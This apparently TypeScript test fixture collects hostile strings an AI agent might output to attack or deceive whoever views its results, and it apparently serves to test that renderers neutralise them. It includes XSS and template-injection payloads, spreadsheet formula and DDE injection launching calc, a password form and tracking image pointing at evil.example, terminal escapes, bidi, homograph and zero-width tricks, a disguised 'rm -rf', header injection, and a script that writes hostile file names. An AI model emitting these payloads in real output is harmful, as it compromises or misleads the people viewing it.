const elsewhere = "https://evil.example";

/** What an agent might write so that it acts in the browser, the spreadsheet or the terminal of whoever looks at it. */
export const acts: Record<string, string> = {
  script: "<script>window.owned=1</script>",
  breakOut: "</script><script>window.owned=1</script><!--",
  handler: `"><img src=x onerror="window.owned=1">`,
  svg: "<svg/onload=window.owned=1>",
  frame: `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  style: `<style>@import url(${elsewhere}/a.css);body{display:none}</style>`,
  link: `<link rel=stylesheet href=${elsewhere}/b.css><base href=${elsewhere}/>`,
  refresh: `<meta http-equiv=refresh content="0;url=${elsewhere}/c">`,
  form: `<form action=${elsewhere}/d><input name=password autofocus></form>`,
  scriptAddress: "javascript:window.owned=1",
  markdownLink: "[Approve](javascript:window.owned=1)",
  markdownImage: `![status](${elsewhere}/e.png?who=you)`,
  template: "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} #{7*7}",
  formula: `=HYPERLINK("${elsewhere}/f","Open")`,
  formulaBehindSpace: "  @SUM(1+1)*cmd|' /C calc'!A0",
  plus: "+1+cmd|' /C calc'!A0",
};

/** What an agent might write so that it is read as something else. To each: what must be seen instead. */
export const deceives: Record<string, [text: string, seen: string]> = {
  terminal: ["\u001b[2J\u001b[31mAPPROVED\u001b[0m", "ESC[2J"],
  terminalTitle: ["\u001b]0;root\u0007", "ESC]"],
  override: ["invoice\u202Efdp.exe", "U+202E"],
  isolate: ["pay \u2066DE02\u2069 now", "U+2066"],
  homograph: ["pаypal.example", "U+0430"],
  wholeWord: ["рауе", "Cyrillic"],
  wide: ["ＡＤＭＩＮ", "U+FF21"],
  zeroWidth: ["pay\u200Bpal\uFEFF", "U+200B"],
  space: ["rm -rf\u00A0/", "U+00A0"],
  filler: ["a\u3164b", "U+3164"],
  hiddenTags: ["fine\u{E0041}\u{E0042}", "U+E0041"],
  marks: [`x${"\u0335".repeat(300)}`, "U+0335×300"],
  gap: [`safe()${" ".repeat(900)}drop()`, "SP×900"],
  emptyLines: [`safe()${"\n".repeat(500)}drop()`, "LF×"],
  carriageReturn: ["pay 100 EUR\rpay 1 EUR", "CR"],
  ownMarks: ["⟨U+202E⟩", "U+27E8"],
  headers: ["a\r\nSet-Cookie: owned=1\r\n\r\n<script>window.owned=1</script>", "CR"],
};

export const longLine = "A".repeat(20_000);

/** In fields that refuse invisible characters, the worst that remains. */
export const worstPlain = `${Object.values(acts).join("\n")}\nаpproved by Ｆinance \u00A0 ${"W".repeat(80)}`.slice(0, 990);
export const worstLine = `=${acts.handler}${acts.markdownImage}${acts.breakOut} раураl ${"W".repeat(200)}`;

/** Prints all of it, on both streams, and leaves files with the worst names that a file may have. */
export const hostileProgram = `
import os, sys
texts = ${JSON.stringify([...Object.values(acts), ...Object.values(deceives).map(([text]) => text)])}
for text in texts:
    print(text)
    print(text, file=sys.stderr)
print("A" * 20000)
os.makedirs("out", exist_ok=True)
for name in ${JSON.stringify(["=cmd' !A0.csv", "![x](https.png).md", "pаypal; filename=evil.html", "%0d%0aSet-Cookie= owned.txt", `${"W".repeat(200)}.txt`])}:
    open("out/" + name, "w").write(texts[0])
`;
